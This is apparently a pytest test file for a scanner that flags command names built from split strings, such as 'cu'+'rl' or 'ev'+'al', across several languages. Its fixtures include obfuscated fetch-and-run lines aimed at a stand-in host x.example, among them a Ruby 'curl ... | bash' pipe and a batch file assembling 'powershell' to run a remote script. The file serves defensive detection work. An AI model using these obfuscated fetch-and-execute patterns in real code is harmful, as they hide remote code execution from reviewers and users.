"""The name of a program or a function that runs code, which is put together, is what the rest of the file makes of it."""

from __future__ import annotations

import pytest

from rye.text.facts import ALARM, CAUTION, NOTE, find_facts


def found(path: str, text: str) -> set[tuple[str, str]]:
    return {(fact.fact, fact.level) for fact in find_facts({path: text}) if fact.level != NOTE}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.lua", 'local t = require("socket.http").request(u)\n_G["lo" .. "ad"](t)()\n'),
        ("a.exs", 'x = "cu" <> "rl -s https://x.example/a"\n'),
        ("a.rs", 'const G: &str = concat!("wg", "et -qO- https://x.example/a");\n'),
        ("a.go", 'p := []string{"cu", "rl -s https://x.example/a"}\nrun(strings.Join(p, ""))\n'),
        ("a.cmd", 'set "a=power"\nset "b=shell"\ncall %a%%b% -File \\\\x.example\\a.ps1 http://x.example\n'),
    ],
)
def test_a_word_that_is_put_together_is_an_alarm_where_something_is_fetched(path: str, text: str) -> None:
    assert ("pipe-to-shell", ALARM) in found(path, text)


def test_it_is_an_alarm_where_something_is_decoded() -> None:
    text = 'const t = atob(packed);\nself["ev" + "al"](t);\n'
    assert ("decode-and-run", ALARM) in found("a.js", text)


def test_a_function_that_runs_code_is_a_caution_elsewhere() -> None:
    assert found("a.py", 'run = vars(builtins)["ex" + "ec"]\n') == {("decode-and-run", CAUTION)}


@pytest.mark.parametrize(
    "text",
    [
        "name = 'cu' + 'rl'\n",  # nothing to fetch
        "tool = 'curl'\nline = tool + ' -s ' + 'https://x.example/a'\n",  # the word is there as a whole
        "path = 'down' + 'load'\nurl = 'https://x.example/a'\n",  # the word is another one
    ],
)
def test_other_sums_of_strings_are_none(text: str) -> None:
    assert found("a.py", text) == set()


def test_of_several_words_of_a_line_the_first_by_name_is_named_in_every_process() -> None:
    text = 'cmd = %w[c u r l].join + " -s https://x.example/r | " + %w[b a s h].join\nsystem(cmd)\n'
    values = [fact.value for fact in find_facts({"a.rb": text}) if fact.level == ALARM]
    assert [value.partition(":")[0] for value in values] == ["bash"]
